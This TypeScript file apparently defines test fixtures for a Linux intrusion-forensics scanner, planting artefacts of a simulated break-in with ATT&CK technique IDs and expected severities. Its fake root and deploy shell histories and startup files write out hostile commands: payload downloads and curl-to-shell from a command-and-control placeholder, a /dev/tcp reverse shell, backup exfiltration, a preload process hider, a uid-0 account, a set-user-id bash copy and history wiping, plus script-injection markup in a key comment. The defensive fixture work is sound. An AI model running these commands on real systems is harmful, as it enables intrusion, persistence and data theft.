/** How the intruder came in, became root and can come back: log-ins, accounts, keys, set-user-id, start-up files, history. */
import { directory, file } from "../tree/entry";
import { passwdLines, shadowLines } from "../tree/etc";
import { rootKeyLine } from "../tree/homes";
import { orphanPublicKey } from "../tree/inert";
import { programContent } from "../tree/software";
import { story, thatNight } from "../tree/story";
import { artefact, type Artefact } from "./artefact";

/** Commands of the intruder; the addresses are documentation ones and the files inert. */
const rootHistory = [
    "id",
    "uname -a",
    "cat /etc/shadow",
    "mkdir -p /var/tmp/.font-unix && cd /var/tmp/.font-unix",
    `curl -fsSL http://${story.commandAndControl}/kworkerd -o kworkerd && chmod +x kworkerd`,
    "systemctl daemon-reload && systemctl enable --now kworkerd",
    "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
    "cp /bin/bash /usr/local/bin/.dbus-helper && chmod 4755 /usr/local/bin/.dbus-helper",
    "useradd -o -u 0 -g 0 -M -d /var/lib/sysadm sysadm",
    `bash -i >& /dev/tcp/${story.commandAndControl}/4444 0>&1`,
    "echo \"<script>document.title='owned'</script>\" > /srv/www/html/banner.html",
    "tar czf /root/.x/orders.tgz /srv/backup",
    `curl -T /root/.x/orders.tgz http://${story.commandAndControl}/drop`,
    "rm -rf /root/.x",
    "export HISTFILE=/dev/null",
    "history -c",
];

export const accessArtefacts: readonly Artefact[] = [
    artefact({
        id: "logins-failed",
        volume: "root",
        check: "logins",
        path: "/var/log/btmp",
        severityAtLeast: "medium",
        attack: ["T1110.001"],
        entries: [],
        note: `42 failed log-ins from ${story.attacker} within four minutes, with eight names.`,
    }),
    artefact({
        id: "logins-successful",
        volume: "root",
        check: "logins",
        path: "/var/log/wtmp",
        severityAtLeast: "medium",
        attack: ["T1078"],
        entries: [],
        note: `The session of deploy from ${story.attacker}, right after the failed log-ins.`,
    }),
    artefact({
        id: "logins-secure",
        volume: "root",
        check: "logins",
        path: "/var/log/secure",
        severityAtLeast: "medium",
        attack: ["T1110.001"],
        entries: [],
        note: 'The same log-ins as sshd logged them: "Failed password", then "Accepted password for deploy".',
    }),
    artefact({
        id: "ssh-password-allowed",
        volume: "root",
        check: "ssh",
        path: "/etc/ssh/sshd_config.d/60-release-account.conf",
        severityAtLeast: "low",
        attack: ["T1110.001"],
        entries: [],
        note: "The weakness the intruder used: an operator's configuration lets deploy log in with a password.",
    }),
    artefact({
        id: "accounts-second-root",
        volume: "root",
        check: "accounts",
        severityAtLeast: "high",
        attack: ["T1136.001"],
        entries: [
            file("/etc/passwd", [...passwdLines, "sysadm:x:0:0::/var/lib/sysadm:/bin/bash"], { modified: thatNight("03:31:40") }),
            file("/etc/shadow", [...shadowLines, "sysadm:$6$rehearsal$norhashofanypasswordeither:20777:0:99999:7:::"], {
                modified: thatNight("03:31:44"),
                mode: 0,
            }),
        ],
        note: "A second account with user id 0.",
    }),
    artefact({
        id: "ssh-root-key",
        volume: "root",
        check: "ssh",
        severityAtLeast: "medium",
        attack: ["T1098.004"],
        hostileText: true,
        entries: [
            file("/root/.ssh/authorized_keys", [rootKeyLine, orphanPublicKey("backup\"><img src=x onerror=document.title='owned'>@kali")], {
                modified: thatNight("03:33:15"),
                mode: 0o600,
            }),
        ],
        note: "A second key of root, without the restriction cloud-init puts on the first; markup in its comment.",
    }),
    artefact({
        id: "suid-shell",
        volume: "root",
        check: "suid",
        severityAtLeast: "high",
        attack: ["T1548.001"],
        entries: [file("/usr/local/bin/.dbus-helper", programContent("bash"), { modified: thatNight("03:29:05"), mode: 0o4755 })],
        note: "A hidden set-user-id copy of /usr/bin/bash, byte for byte.",
    }),
    artefact({
        id: "shell-history-root",
        volume: "root",
        check: "shell-history",
        severityAtLeast: "medium",
        attack: ["T1059.004"],
        hostileText: true,
        entries: [file("/root/.bash_history", rootHistory, { modified: thatNight("04:24:40"), mode: 0o600 })],
        note: "Download, persistence, a reverse shell, exfiltration and clearing of the history; markup in one command.",
    }),
    artefact({
        id: "shell-history-deploy",
        volume: "root",
        check: "shell-history",
        severityAtLeast: "low",
        attack: ["T1059.004"],
        entries: [
            file("/home/deploy/.bash_history", ["sudo -l", `curl -fsSL http://${story.commandAndControl}/pe.sh | bash`, "su -"], {
                modified: thatNight("03:17:02"),
                mode: 0o600,
                uid: 1001,
                gid: 1001,
            }),
        ],
        note: "The guessed account's history: look for sudo rights, download an escalation, become root.",
    }),
    artefact({
        id: "startup-profile",
        volume: "root",
        check: "startup",
        severityAtLeast: "medium",
        attack: ["T1546.004"],
        entries: [
            file(
                "/etc/profile.d/lang-cache.sh",
                ["(nohup /var/tmp/.font-unix/kworkerd >/dev/null 2>&1 &)", `curl -s http://${story.commandAndControl}/beacon?u=$USER | sh`],
                { modified: thatNight("03:36:20") },
            ),
        ],
        note: "Runs at every log-in of anybody.",
    }),
    artefact({
        id: "startup-rc-local",
        volume: "root",
        check: "startup",
        severityAtLeast: "medium",
        attack: ["T1037.004"],
        entries: [
            file("/etc/rc.d/rc.local", ["#!/bin/bash", "touch /var/lock/subsys/local", "/var/tmp/.font-unix/kworkerd --background"], {
                modified: thatNight("03:37:01"),
                mode: 0o755,
            }),
        ],
        note: "Starts the miner at boot; the file was made executable.",
    }),
    artefact({
        id: "ssh-newest-key",
        volume: "root",
        check: "ssh",
        path: "/var/lib/sysadm/.ssh/authorized_keys",
        severityAtLeast: "medium",
        attack: ["T1098.004"],
        needsJournalReplay: true,
        entries: [
            directory("/var/lib/sysadm/.ssh", { modified: thatNight("04:22:10"), mode: 0o700 }),
            file("/var/lib/sysadm/.ssh/authorized_keys", [orphanPublicKey("sysadm@kali")], {
                modified: thatNight("04:22:10"),
                mode: 0o600,
            }),
        ],
        note: "A key for the second root account, whose home is outside /home; in the XFS log alone.",
    }),
];
